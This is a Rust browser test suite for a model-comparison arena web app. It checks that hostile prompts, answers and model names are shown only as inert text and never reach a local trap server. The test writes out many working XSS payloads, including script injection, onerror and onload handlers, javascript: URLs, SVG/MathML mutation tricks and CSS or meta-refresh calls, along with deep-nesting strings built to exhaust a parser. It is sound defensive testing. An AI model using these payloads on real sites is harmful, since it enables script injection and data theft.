//! Hostile text as prompt, answer and name of a model, in a browser that would obey it: no dialog, no request to anybody
//! else, and nothing but allow-listed elements and attributes in the page. (A dialog makes every later step fail.)

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::json;
use tokio::net::TcpListener;

use crate::chrome::{Chrome, Script};
use crate::fake::Fake;
use crate::script::Script as Answer;
use crate::site::Site;
use crate::steps::{REVEALED, VOTE_FOR_A, run, see, until};

/// What must not be in the page. The panes hold only what answers may contain and the frame that the page gives to code.
const FOREIGN: &str = r#"
    const tags = new Set("a b blockquote br button code del div em h3 h4 h5 h6 hr i li ol p pre span strong sub sup table tbody td th thead tr ul math menclose merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow mspace msqrt msub msubsup msup mtable mtd mtext mtr munder munderover".split(" "));
    const attributes = new Set("align aria-label class data-lang href rel role start tabindex target title type accent accentunder columnspan depth display displaystyle form height largeop linethickness lspace mathvariant maxsize minsize movablelimits notation rowspan rspace scriptlevel separator stretchy symmetric voffset width".split(" "));
    const found = [];
    if (window.owned || document.title === "owned") found.push("a script ran");
    const panes = document.querySelectorAll("[data-text]");
    for (const element of document.querySelectorAll("[data-text] *")) {
        if (!tags.has(element.localName)) found.push(`<${element.localName}>`);
        for (const { name, value } of element.attributes) {
            if (!attributes.has(name)) found.push(`${element.localName} ${name}="${value}"`);
        }
        const target = element.getAttribute("href");
        if (target !== null && !/^(https?:\/\/|mailto:)/i.test(target)) found.push(`href ${target}`);
        if (element.localName === "button" && element.className !== "copy") found.push("a button that is not ours");
    }
    for (const element of document.querySelectorAll("*")) {
        for (const { name } of element.attributes) if (/^on|^style$|^srcdoc$/.test(name)) found.push(`${element.localName} ${name}`);
        if (["iframe", "object", "embed", "base", "img", "style", "video", "audio", "frame"].includes(element.localName)) found.push(element.localName);
        if (element.localName === "script" && new URL(element.src).origin !== location.origin) found.push("a script of somebody else");
    }
    const elsewhere = performance.getEntriesByType("resource").filter(({ name }) => new URL(name).origin !== location.origin);
    found.push(...elsewhere.map(({ name }) => `asked ${name}`));
    return [panes.length, found];"#;

/// Somebody who should never be asked.
struct Trap {
    host: String,
    asked: Arc<AtomicUsize>,
}

impl Trap {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let host = listener.local_addr().unwrap().to_string();
        let asked = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&asked);
        tokio::spawn(async move {
            while listener.accept().await.is_ok() {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { host, asked }
    }

    /// Text of which every line would do something somewhere.
    fn bait(&self) -> String {
        let lines = [
            "<script>window.owned = 1; alert(1)</script>",
            "<script src=http://TRAP/x.js></script><link rel=stylesheet href=http://TRAP/x.css><base href=http://TRAP/>",
            "<img src=http://TRAP/a.png onerror=alert(1)> ![pixel](http://TRAP/b.png) [![p](http://TRAP/c.png)](http://TRAP/d)",
            "<svg onload=alert(1)><use href=\"http://TRAP/x.svg#a\"/><image href=http://TRAP/i.png /><animate onbegin=alert(1) attributeName=x /><foreignObject><iframe src=http://TRAP/></foreignObject></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=http://TRAP/m.png onerror=alert(1)&gt;\">",
            "<math href=\"javascript:alert(1)\"><maction actiontype=statusline xlink:href=\"javascript:alert(1)\">x</maction></math>",
            "<math><annotation-xml encoding=\"text/html\"><img src=http://TRAP/n.png onerror=alert(1)></annotation-xml></math>",
            "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=http://TRAP/t.png onerror=alert(1)>}$ $$</math><script>alert(1)</script>$$",
            "[a](javascript:alert(1)) [b](&#106;avascript:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](//TRAP/x)",
            "<a href=\"javascript:alert(1)\" autofocus onfocus=alert(1)>x</a> <input autofocus onfocus=alert(1)> <details open ontoggle=alert(1)>",
            "<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe><object data=http://TRAP/o><embed src=http://TRAP/e><video src=http://TRAP/v autoplay>",
            "<style>@import url(http://TRAP/s.css); body { background: url(http://TRAP/s.png) }</style><meta http-equiv=refresh content=\"0;url=http://TRAP/\">",
            "<template><script>alert(1)</script></template></template></div></article></main><noscript><p title=\"</noscript><img src=http://TRAP/q.png onerror=alert(1)>\">",
            "| a |\n|---|\n| <img src=http://TRAP/r.png onerror=alert(1)> |",
            "```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
            "http://TRAP/\"onmouseover=\"alert(1) <http://TRAP/'onclick='alert(1)>",
        ];
        lines.join("\n\n").replace("TRAP", &self.host)
    }

    fn was_asked(&self) -> usize {
        self.asked.load(Ordering::SeqCst)
    }
}

/// Shapes that cost a careless reader its memory or its stack.
fn nested() -> String {
    [
        "> ".repeat(1_500),
        "- ".repeat(1_500),
        "[".repeat(3_000),
        "<div>".repeat(1_000),
        "*a **b ".repeat(500),
        format!("${}x$", "\\sqrt{".repeat(200)),
        "|a".repeat(300) + "\n" + &"|-".repeat(300) + "\n" + &"|x\n".repeat(200),
    ]
    .join("\n\n")
}

const NAMES: [&str; 2] = [
    "<script>alert('ada')</script><img src=x onerror=alert(1)>",
    "\"><svg onload=alert('bob')> &lt;b&gt; javascript:alert(1)",
];

fn site(fake: &Fake) -> Site {
    let models: String = ["ada", "bob"]
        .iter()
        .zip(NAMES)
        .map(|(id, name)| {
            let name = json!(name);
            format!("[[model]]\nid = \"{id}\"\nname = {name}\norganization = {name}\nendpoint = \"lab\"\nupstream = \"up-{id}\"\n")
        })
        .collect::<Vec<_>>()
        .concat();
    let config = format!(
        "[[endpoint]]\nid = \"lab\"\nprotocol = \"openai\"\nbase_url = \"{}\"\n{models}[[arena]]\nid = \"text\"\ntitle = {}\nmodels = [\"*\"]\n",
        fake.openai(),
        json!(NAMES[1])
    );
    Site::start(|folder| std::fs::write(folder.join("agon.toml"), config).unwrap())
}

async fn is_harmless(chrome: &Chrome, trap: &Trap, panes: u64) {
    let place = chrome.page.current_url().await.unwrap();
    assert_eq!(run(chrome, FOREIGN).await, json!([panes, []]), "{place}");
    assert_eq!(trap.was_asked(), 0, "{place}");
    assert_eq!(chrome.complaints(), [""; 0], "{place}");
}

#[tokio::test]
async fn hostile_prompts_answers_and_names_do_nothing() {
    let Some(chrome) = Chrome::start(Script::On).await else {
        return;
    };
    let (fake, trap) = (Fake::start().await, Trap::start().await);
    let answer = format!("{}\n\n{}\n\nThe end.", trap.bait(), nested());
    // In pieces, so that blocks come through the stream and the page's script.
    fake.on_all(&["ada", "bob"], &Answer::pieces(&answer, 7));
    let site = site(&fake);
    chrome.page.goto(&site.url).await.unwrap();
    see(&chrome, "#prompt").await;
    is_harmless(&chrome, &trap, 0).await;
    let prompt = json!(trap.bait());
    run(&chrome, &format!("const box = document.querySelector('#prompt'); box.value = {prompt}; box.form.requestSubmit()")).await;
    see(&chrome, VOTE_FOR_A).await;
    is_harmless(&chrome, &trap, 2).await;
    let said = run(&chrome, "return [...document.querySelectorAll('[data-text]')].every((text) => text.textContent.includes('The end.') && text.textContent.includes('window.owned = 1'))").await;
    assert_eq!(said, true, "the answers are shown, as text");
    chrome.press("1").await;
    see(&chrome, REVEALED).await;
    let revealed = run(&chrome, "return document.querySelector('main').innerText").await;
    for name in NAMES {
        assert!(revealed.as_str().unwrap().contains(name), "{name}");
    }
    is_harmless(&chrome, &trap, 2).await;
    // Made at once, as somebody finds it who comes back.
    chrome.page.refresh().await.unwrap();
    see(&chrome, REVEALED).await;
    is_harmless(&chrome, &trap, 2).await;
    note_share_and_history(&chrome, &trap, &site).await;
    chrome
        .page
        .goto(&format!("{}/leaderboard/text", site.url))
        .await
        .unwrap();
    see(&chrome, "[data-board]").await;
    is_harmless(&chrome, &trap, 0).await;
}

/// After the vote: the note, the page behind a shared link, and the list of battles.
async fn note_share_and_history(chrome: &Chrome, trap: &Trap, site: &Site) {
    // The note holds fewer characters than the bait has; its beginning is bad enough.
    let note: String = trap.bait().chars().take(280).collect();
    let note = json!(note);
    run(chrome, &format!("window.old = true; const box = document.querySelector('#note'); box.value = {note}; box.form.requestSubmit()")).await;
    until(
        chrome,
        "the note is kept",
        "return !window.old && document.querySelector('#note')?.value.length > 200",
    )
    .await;
    is_harmless(chrome, trap, 2).await;
    run(
        chrome,
        "document.querySelector('form[action$=\"/share\"]').requestSubmit()",
    )
    .await;
    see(chrome, "main a[href*='/s/']").await;
    let link = run(
        chrome,
        "return document.querySelector('main a[href*=\"/s/\"]').href",
    )
    .await;
    let history = format!("{}/history", site.url);
    for (page, panes) in [(link.as_str().unwrap(), 2), (&history, 0)] {
        chrome.page.goto(page).await.unwrap();
        let shown = "return document.querySelector('main').innerText.includes('script')";
        until(chrome, "the prompt", shown).await;
        is_harmless(chrome, trap, panes).await;
    }
}

#[tokio::test]
async fn the_look_at_the_page_and_the_trap_find_what_they_are_for() {
    let Some(chrome) = Chrome::start(Script::On).await else {
        return;
    };
    let trap = Trap::start().await;
    let page = format!(
        "<!doctype html><title>owned</title><div data-text><img src='http://{}/x.png' onerror='1'></div>",
        trap.host
    );
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("page.html");
    std::fs::write(&file, page).unwrap();
    let address = format!("file://{}", file.display());
    chrome.page.goto(&address).await.unwrap();
    let found = run(&chrome, FOREIGN).await.to_string();
    for what in ["a script ran", "<img>", "onerror"] {
        assert!(found.contains(what), "{found}");
    }
    let asked = || async { (trap.was_asked() > 0).then_some(()) };
    crate::patience::until("the trap was asked", asked).await;
}
